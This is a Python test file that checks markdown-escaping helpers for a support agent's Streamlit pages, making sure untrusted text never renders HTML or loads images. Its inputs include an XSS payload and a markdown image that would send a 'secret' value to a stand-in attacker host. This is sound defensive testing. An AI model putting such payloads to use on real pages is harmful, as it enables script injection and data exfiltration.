"""Other people's text on the pages: never HTML, loads nothing, and its links are links."""

from streamlit.testing.v1 import AppTest

from support_agent.ui.safe_text import escape_lines, escape_markdown, inert_markdown

LINK = "[support.example.com/repair](https://support.example.com/repair)"


def test_a_bare_address_in_escaped_text_is_one_autolink_with_no_backslash_in_it():
    shown = escape_markdown("Book at https://support.example.com/repair. Then *wait*.")
    assert shown == r"Book at <https://support.example.com/repair>\. Then \*wait\*\."


def test_an_address_inside_markdown_link_syntax_stays_a_literal_link():
    shown = escape_markdown(f"see {LINK}")
    # The brackets stay literal; the address itself is one clean link.
    assert shown == r"see \[support\.example\.com/repair\]\(<https://support.example.com/repair>\)"


def test_escaped_text_still_escapes_html_and_images():
    assert escape_markdown("<img src=x onerror=alert(1)>") == r"\<img src=x onerror=alert\(1\)\>"
    shown = escape_markdown("![x](https://evil.example/p.png?d=secret)")
    assert shown.startswith(r"\!\[x\]\(<https://evil.example/p.png?d=secret>")  # a link, no image
    assert escape_markdown("http:// and https://localhost") == r"http:// and https://localhost"


def test_a_models_link_is_left_a_link_and_its_image_is_not_loaded():
    assert inert_markdown(f"Book at {LINK}.") == f"Book at {LINK}."
    assert inert_markdown("![s](http://x.example/a.png)") == r"\![s](http://x.example/a.png)"


def _page(text: str) -> None:
    import streamlit as st

    from support_agent.ui.safe_text import escape_markdown

    st.markdown(escape_markdown(text))


def test_streamlit_is_never_asked_for_html():
    at = AppTest.from_function(_page, args=("<b>hi</b> https://a.example/x",)).run()
    (shown,) = at.markdown
    assert not shown.allow_html and "<https://a.example/x>" in shown.value


def test_escape_lines_keeps_each_line_and_its_indent_and_escapes_every_one():
    shown = escape_lines("Do it.\n\n    Args:\n        reason: <b>why</b>")
    assert shown.split("  \n") == [
        "Do it\\.",
        "\u00a0",
        "\u00a0" * 4 + "Args:",
        "\u00a0" * 8 + "reason: \\<b\\>why\\</b\\>",
    ]
